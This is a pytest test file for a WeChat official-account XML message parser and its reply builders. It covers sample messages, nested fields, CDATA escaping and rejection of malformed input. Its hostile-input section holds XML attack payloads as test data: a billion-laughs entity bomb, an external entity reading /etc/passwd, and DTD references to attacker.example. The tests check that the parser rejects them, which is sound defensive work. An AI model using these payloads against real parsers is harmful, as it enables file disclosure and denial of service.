from __future__ import annotations

import pytest

from channels.wechat.xmlmsg import (
    Link,
    Location,
    XMLRejected,
    cdata,
    message_from_fields,
    news_reply,
    parse_message,
    parse_xml,
    text_reply,
    transfer_reply,
)
from tests.channels.wechat import samples
from tests.channels.wechat.samples import SAMPLE_KINDS, SAMPLES


def rejected(body: bytes | str, **kwargs: int) -> str:
    with pytest.raises(XMLRejected) as info:
        parse_xml(body, **kwargs)
    return info.value.code


# --- every documented sample ---------------------------------------------------------------


@pytest.mark.parametrize("name", sorted(SAMPLES))
def test_every_sample_parses(name: str) -> None:
    message = parse_message(SAMPLES[name]())
    assert (message.kind, message.event) == SAMPLE_KINDS[name]
    assert message.create_time == samples.CREATE_TIME
    if name.startswith("oa_"):
        assert message.from_user == samples.OPENID
        assert message.to_user == samples.OA_ID


def test_sample_registry_covers_kinds() -> None:
    assert set(SAMPLES) == set(SAMPLE_KINDS)
    kinds = {kind for kind, _ in SAMPLE_KINDS.values()}
    events = {event for _, event in SAMPLE_KINDS.values() if event}
    assert {"text", "image", "voice", "video", "shortvideo", "location", "link"} <= kinds
    assert events == {
        "subscribe",
        "unsubscribe",
        "scan",
        "location",
        "click",
        "view",
        "kf_msg_or_event",
    }


def test_text_builder_parameters_and_accessors() -> None:
    body = samples.oa_text("查话费 ]]> <b>&amp;", from_user="o_user", msg_id="42", create_time=7)
    message = parse_message(body)
    assert message.content == "查话费 ]]> <b>&amp;"
    assert (message.from_user, message.msg_id, message.create_time) == ("o_user", "42", 7)
    assert message.dedup_key == "42"


def test_bytes_and_str_bodies_parse_the_same() -> None:
    body = samples.oa_text("你好")
    assert parse_xml(body) == parse_xml(body.encode("utf-8"))
    declared = '<?xml version="1.0" encoding="UTF-8"?>' + body
    assert parse_xml(declared.encode("utf-8"))["Content"] == "你好"


def test_voice_with_and_without_recognition() -> None:
    plain = parse_message(samples.oa_voice())
    assert (plain.media_id, plain.format, plain.recognition) == ("voice_media_id", "amr", "")
    recognised = parse_message(SAMPLES["oa_voice_recognition"]())
    assert recognised.recognition == "我想查一下这个月的话费"


def test_media_accessors() -> None:
    image = parse_message(samples.oa_image(pic_url="http://p/1", media_id="m1"))
    assert (image.pic_url, image.media_id) == ("http://p/1", "m1")
    video = parse_message(samples.oa_shortvideo(media_id="v", thumb_media_id="t"))
    assert (video.kind, video.media_id, video.thumb_media_id) == ("shortvideo", "v", "t")
    assert image.location is None and image.link is None


def test_location_message_and_event() -> None:
    message = parse_message(samples.oa_location(lat="39.9", lon="116.4", scale="15", label="北京"))
    assert message.location == Location(39.9, 116.4, 15.0, "北京")
    event = parse_message(samples.oa_location_event(lat="23.1", lon="113.3", precision="65.0"))
    assert event.location == Location(23.1, 113.3, 65.0, "")
    assert event.event == "location" and event.msg_id is None


def test_link_message() -> None:
    message = parse_message(samples.oa_link("标题", "描述", "https://x.cn/?a=1&b=2"))
    assert message.link == Link("标题", "描述", "https://x.cn/?a=1&b=2")


def test_events_keys_and_dedup() -> None:
    scan = parse_message(samples.oa_scan(event_key="888", ticket="T1", create_time=99))
    assert (scan.event, scan.event_key, scan.get("Ticket")) == ("scan", "888", "T1")
    assert scan.dedup_key == f"{samples.OPENID}:99:scan"
    sub = parse_message(SAMPLES["oa_subscribe_qrscene"]())
    assert sub.event_key == "qrscene_123123"
    assert parse_message(samples.oa_subscribe()).event_key == ""
    view = parse_message(samples.oa_view("https://m.cn/a", menu_id="3"))
    assert (view.event, view.event_key, view.get("MenuId")) == ("view", "https://m.cn/a", "3")
    click = parse_message(samples.oa_click("MENU_1"))
    unsub = parse_message(samples.oa_unsubscribe())
    assert click.dedup_key != unsub.dedup_key  # same sender and second, different events


def test_kf_callback_has_no_sender() -> None:
    message = parse_message(samples.kf_msg_or_event(token="TK", open_kfid="wk1"))
    assert (message.kf_token, message.open_kfid, message.from_user) == ("TK", "wk1", "")
    assert message.to_user == samples.CORP_ID
    assert message.dedup_key == f"wk1:{samples.CREATE_TIME}:kf_msg_or_event"


def test_fields_are_read_only() -> None:
    message = parse_message(samples.oa_text())
    with pytest.raises(TypeError):
        message.fields["Content"] = "x"  # type: ignore[index]


# --- nesting -------------------------------------------------------------------------------


def test_nested_elements_are_flattened() -> None:
    body = samples.xml_doc(("MsgType", "event"), ("Event", "scancode_waitmsg"))
    body = body.replace(
        "</xml>",
        "<ScanCodeInfo><ScanType><![CDATA[qrcode]]></ScanType>"
        "<ScanResult><![CDATA[1]]></ScanResult></ScanCodeInfo>"
        "<SendLocationInfo><Location_X>23</Location_X><Location_Y>113</Location_Y>"
        "<Scale>15</Scale><Label><![CDATA[ 广州 ]]></Label></SendLocationInfo></xml>",
    )
    fields = parse_xml(body)
    assert fields["ScanCodeInfo.ScanType"] == "qrcode"
    assert fields["ScanCodeInfo.ScanResult"] == "1"
    assert fields["SendLocationInfo.Location_X"] == "23"
    fields["FromUserName"] = "o1"
    assert message_from_fields(fields).location == Location(23.0, 113.0, 15.0, " 广州 ")


def test_repeated_siblings_are_indexed() -> None:
    body = (
        "<xml><SendPicsInfo><Count>2</Count><PicList>"
        "<item><PicMd5Sum>aaa</PicMd5Sum></item><item><PicMd5Sum>bbb</PicMd5Sum></item>"
        "</PicList></SendPicsInfo></xml>"
    )
    fields = parse_xml(body)
    assert fields["SendPicsInfo.Count"] == "2"
    assert fields["SendPicsInfo.PicList.item[0].PicMd5Sum"] == "aaa"
    assert fields["SendPicsInfo.PicList.item[1].PicMd5Sum"] == "bbb"


def test_empty_elements_are_empty_strings() -> None:
    assert parse_xml("<xml><ToUserName/><Token></Token></xml>") == {"ToUserName": "", "Token": ""}


# --- hostile input -------------------------------------------------------------------------

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE xml [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<xml><Content>&lol9;</Content></xml>"""

EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<xml><ToUserName>a</ToUserName><FromUserName>b</FromUserName><Content>&xxe;</Content></xml>"""

EXTERNAL_DTD = """<?xml version="1.0"?>
<!DOCTYPE xml SYSTEM "http://attacker.example/evil.dtd">
<xml><Content>hi</Content></xml>"""

PARAMETER_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE xml [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>
<xml><Content>hi</Content></xml>"""

PLAIN_DTD = """<!DOCTYPE xml><xml><Content>hi</Content></xml>"""


@pytest.mark.parametrize(
    "body", [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD, PARAMETER_ENTITY, PLAIN_DTD]
)
def test_dtds_and_entities_are_forbidden(body: str) -> None:
    assert rejected(body) == "xml_forbidden"
    assert rejected(body.encode("utf-8")) == "xml_forbidden"


def test_size_is_checked_before_parsing() -> None:
    assert rejected(BILLION_LAUGHS, max_bytes=100) == "xml_too_large"
    big = samples.oa_text("话" * 22_000)  # 66 000 bytes, 22 000 characters
    assert rejected(big) == "xml_too_large"
    assert parse_xml(big, max_bytes=100_000)["Content"] == "话" * 22_000


@pytest.mark.parametrize(
    "body",
    [
        b"",
        b"not xml at all",
        b'{"MsgType": "text"}',
        b"<xml><Content>unclosed</xml>",
        b"<root><Content>x</Content></root>",
        b"<xml><Content>\x01</Content></xml>",
        b"<xml><Content>\xff\xfe</Content></xml>",
        b"<xml><Content>&undefined;</Content></xml>",
        b"<xml></xml><xml></xml>",
        b"<xml>" + b"<a>" * 40 + b"x" + b"</a>" * 40 + b"</xml>",
    ],
)
def test_garbage_is_invalid(body: bytes) -> None:
    assert rejected(body) == "xml_invalid"


def test_rejection_is_a_value_error_with_code() -> None:
    error = XMLRejected("xml_invalid", "detail")
    assert isinstance(error, ValueError)
    assert error.code == "xml_invalid" and "detail" in str(error)


@pytest.mark.parametrize(
    "fields",
    [
        {"FromUserName": "o1", "CreateTime": "1"},
        {"MsgType": "text", "CreateTime": "1", "Content": "hi"},
        {"MsgType": "event", "Event": "subscribe", "CreateTime": "1"},
        {"MsgType": "text", "FromUserName": "o1", "CreateTime": "yesterday"},
        {"MsgType": "text", "FromUserName": "o1", "CreateTime": "-5"},
    ],
)
def test_malformed_messages_are_invalid(fields: dict[str, str]) -> None:
    with pytest.raises(XMLRejected) as info:
        message_from_fields(fields)
    assert info.value.code == "xml_invalid"


def test_kind_and_event_are_lower_cased() -> None:
    message = message_from_fields(
        {"MsgType": "EVENT", "Event": "CLICK", "FromUserName": "o", "CreateTime": "5"}
    )
    assert (message.kind, message.event) == ("event", "click")
    other = message_from_fields({"MsgType": "miniprogrampage", "FromUserName": "o"})
    assert (other.kind, other.event, other.create_time) == ("miniprogrampage", None, 0)


# --- replies -------------------------------------------------------------------------------

TRICKY = ["]]>", "a]]>b]]>c", "]", "]]", "text ending ]]", "<xml>&amp;</xml>", "中文 😀"]


@pytest.mark.parametrize("content", TRICKY)
def test_text_reply_round_trips_any_content(content: str) -> None:
    reply = text_reply("o_user", "gh_1", content, 1700000000)
    fields = parse_xml(reply)
    assert fields == {
        "ToUserName": "o_user",
        "FromUserName": "gh_1",
        "CreateTime": "1700000000",
        "MsgType": "text",
        "Content": content,
    }


def test_forbidden_control_characters_are_removed() -> None:
    reply = text_reply("o", "gh", "a\x00b\x1bc\x08d\ufffee\ud800f\tg\nh", 1)
    reply.encode("utf-8")  # no lone surrogate left
    assert parse_xml(reply)["Content"] == "abcdef\tg\nh"


def test_cdata_splits_terminators() -> None:
    assert cdata("x]]>y") == "<![CDATA[x]]]]><![CDATA[>y]]>"


def test_news_reply_has_one_article() -> None:
    reply = news_reply(
        "o", "gh", "标题]]>", "描述", "https://x.cn/?a=1&b=2", "https://x.cn/p.png", 5
    )
    fields = parse_xml(reply)
    assert fields["MsgType"] == "news"
    assert fields["ArticleCount"] == "1"
    assert fields["Articles.item.Title"] == "标题]]>"
    assert fields["Articles.item.Description"] == "描述"
    assert fields["Articles.item.Url"] == "https://x.cn/?a=1&b=2"
    assert fields["Articles.item.PicUrl"] == "https://x.cn/p.png"


def test_transfer_reply() -> None:
    plain = parse_xml(transfer_reply("o", "gh", 9))
    assert plain["MsgType"] == "transfer_customer_service"
    assert "TransInfo.KfAccount" not in plain
    targeted = parse_xml(transfer_reply("o", "gh", 9, kf_account="test1@test"))
    assert targeted["TransInfo.KfAccount"] == "test1@test"
    assert (targeted["ToUserName"], targeted["FromUserName"], targeted["CreateTime"]) == (
        "o",
        "gh",
        "9",
    )
